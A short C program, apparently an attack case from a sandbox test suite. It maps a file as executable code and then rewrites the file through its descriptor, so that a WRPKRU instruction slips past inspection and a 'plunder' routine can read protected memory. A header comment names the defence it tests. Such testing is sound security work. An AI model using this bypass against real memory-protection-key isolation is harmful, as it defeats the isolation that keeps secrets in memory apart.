/* One file twice: mapped as code, which is looked through, and then written through its descriptor.
 * Defence: what was looked through is a copy that no file shares.  Control: off=copy. */
#include "attack.h"

#define O_RDWR_CREAT 0102

static volatile u8 innocent[] = {RET}, code[] = {CLEAR_REGISTERS, WRPKRU, RET};

int main(int argc, char **argv) {
    u8 bytes[sizeof code];

    if (argc < 2)
        return 2;
    i64 fd = syscall(SYS_open, "/tmp/code", O_RDWR_CREAT, 0600);
    syscall(SYS_ftruncate, fd, PAGE);
    write_inverted(bytes, innocent, sizeof innocent);
    syscall(SYS_pwrite64, fd, bytes, sizeof innocent, 0);
    i64 page = syscall(SYS_mmap, 0, PAGE, PROT_RX, MAP_PRIVATE, fd, 0);
    if (page < 0)
        return refused("mmap", page);
    write_inverted(bytes, code, sizeof code);
    syscall(SYS_pwrite64, fd, bytes, sizeof code, 0);
    call((void *)page);
    return plunder(hexadecimal(argv[1]));
}
